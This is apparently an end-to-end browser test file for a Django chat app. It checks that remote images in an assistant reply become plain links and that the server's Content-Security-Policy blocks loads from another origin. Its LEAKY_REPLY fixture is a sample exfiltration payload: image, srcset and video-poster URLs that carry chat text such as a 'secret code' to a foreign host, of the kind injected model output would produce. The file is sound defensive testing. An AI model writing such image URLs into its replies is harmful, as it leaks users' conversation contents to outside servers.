"""Remote content in the browser: a reply that embeds remote images (as injected model
output would, with the chat text in the URL) loads nothing from another host, the images
show as links instead, and the Content-Security-Policy the server sends blocks what the
markdown sanitiser might miss, without breaking any page of the app."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Request, expect

from tests.e2e.conftest import DESKTOP, PASSWORD, _watch, log_in
from tools.live_server import LiveServer, free_port

pytestmark = pytest.mark.slow  # a real browser and the real default model

ELSEWHERE = f"http://127.0.0.1:{free_port()}"  # another origin: nothing may be sent there
LEAKY_REPLY = (
    "Here is the chart:\n\n"
    f"![chart]({ELSEWHERE}/chart.png?q=my%20secret%20code%2058-27-93)\n\n"
    f'<img src="{ELSEWHERE}/a.png"> <img src="data:image/gif;base64,'
    'R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" srcset="'
    f'{ELSEWHERE}/b.png 2x" alt="dot"> <video poster="{ELSEWHERE}/c.png"></video>'
)


def watch_security(page: Page) -> tuple[list[str], list[str]]:
    """Requests to another origin that the browser did not block (nothing listens there,
    so one that went out fails with a refused connection), and the console's CSP
    violations."""
    foreign: list[str] = []
    violations: list[str] = []

    def on_request(request: Request) -> None:
        if request.url.startswith(ELSEWHERE):
            foreign.append(request.url)

    def on_failed(request: Request) -> None:
        # Chromium reports a request its policy refused as failed with "csp".
        if (request.failure or "").lower() == "csp" and request.url in foreign:
            foreign.remove(request.url)

    page.on("requestfailed", on_failed)

    def on_console(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            violations.append(message.text)

    page.on("request", on_request)
    page.on("console", on_console)
    return foreign, violations


def test_remote_images_in_a_reply_become_links_and_nothing_loads_from_elsewhere(
    browser: Browser, server: LiveServer
) -> None:
    cid = server.python(
        "from django.contrib.auth import get_user_model as g; "
        "from chatapp.chat.models import Conversation as C, Message as M; "
        f"r = g().objects.create_user('imagereader', password={PASSWORD!r}); "
        "c = C.objects.create(owner=r, title='Leaky'); "
        "u = M.objects.create(conversation=c, role='user', text='Show me a chart'); "
        f"a = M.objects.create(conversation=c, role='assistant', parent=u, text={LEAKY_REPLY!r}, "
        "finish_reason='stop'); "
        "c.active_leaf = a; c.save(); print(c.pk)"
    ).splitlines()[-1]
    context = browser.new_context(viewport=DESKTOP, base_url=server.url)
    try:
        page = context.new_page()
        errors = _watch(page)
        foreign, violations = watch_security(page)
        log_in(page, "imagereader")
        page.goto(f"/#/c/{cid}")
        reply = page.get_by_test_id("message-content").last
        expect(reply.locator("a.remote-image")).to_have_count(2)
        link = reply.locator("a.remote-image").first
        expect(link).to_have_text("[image: chart]")
        assert link.get_attribute("href").startswith(f"{ELSEWHERE}/chart.png")
        # No image at all: the inline data: one is its words (its remote srcset gone too).
        expect(reply.locator("img")).to_have_count(0)
        expect(reply.locator(".image-removed")).to_have_text("[image: dot]")
        expect(reply.locator("[srcset]")).to_have_count(0)
        expect(reply.locator("video")).to_have_count(0)
        page.wait_for_timeout(500)
        assert foreign == []

        # What the sanitiser might miss, the policy blocks: an image slipped into the page.
        page.evaluate(
            "src => { const i = document.createElement('img'); i.src = src; "
            "document.body.appendChild(i); }",
            f"{ELSEWHERE}/slipped.png",
        )
        page.wait_for_timeout(500)
        assert foreign == []
        assert any("img-src" in v for v in violations), violations
        assert errors == []
    finally:
        context.close()


@pytest.mark.parametrize(
    "path", ["/accounts/login/", "/accounts/signup/", "/", "/settings/keys/", "/admin/"]
)
def test_the_policy_breaks_no_page_of_the_app(
    path: str, browser: Browser, server: LiveServer
) -> None:
    context = browser.new_context(viewport=DESKTOP, base_url=server.url)
    try:
        page = context.new_page()
        errors = _watch(page)
        _, violations = watch_security(page)
        if path not in ("/accounts/login/", "/accounts/signup/"):
            log_in(page, "alice")  # made by the package's set-up
        page.goto(path)
        page.wait_for_load_state("networkidle")
        if path == "/":
            expect(page.get_by_test_id("composer-input")).to_be_visible()
        assert violations == [] and errors == [], (violations, errors)
    finally:
        context.close()
